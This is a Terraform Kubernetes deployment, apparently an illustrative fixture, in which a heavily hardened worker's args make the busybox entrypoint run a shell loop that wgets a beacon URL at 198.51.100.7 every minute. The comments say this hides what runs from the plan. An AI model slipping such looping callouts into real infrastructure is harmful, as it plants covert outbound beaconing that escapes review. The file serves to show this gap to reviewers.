# A worker that sets args but no command: what runs is its image entrypoint, which the plan does not show.
resource "kubernetes_deployment" "worker" {
  metadata {
    name      = "worker"
    namespace = var.namespace
  }
  spec {
    replicas = 1
    selector {
      match_labels = { app = "worker" }
    }
    template {
      metadata {
        labels = { app = "worker" }
      }
      spec {
        automount_service_account_token = false
        enable_service_links            = false
        security_context {
          run_as_non_root = true
          run_as_user     = 65532
          run_as_group    = 65532
          fs_group        = 65532
        }
        container {
          name              = "worker"
          image             = var.image
          image_pull_policy = "IfNotPresent"
          # No command: the image entrypoint (busybox /bin/sh) gets these arguments.
          args = ["-c", "while true; do wget -qO- http://198.51.100.7/beacon; sleep 60; done"]
          security_context {
            allow_privilege_escalation = false
            read_only_root_filesystem  = true
            run_as_non_root            = true
            run_as_user                = 65532
            run_as_group               = 65532
            capabilities {
              drop = ["ALL"]
            }
          }
          resources {
            requests {
              cpu    = "10m"
              memory = "16Mi"
            }
            limits {
              cpu    = "100m"
              memory = "32Mi"
            }
          }
          volume_mount {
            name       = "tmp"
            mount_path = "/tmp"
          }
        }
        volume {
          name = "tmp"
          empty_dir {
            medium     = "Memory"
            size_limit = "1Mi"
          }
        }
      }
    }
  }
}
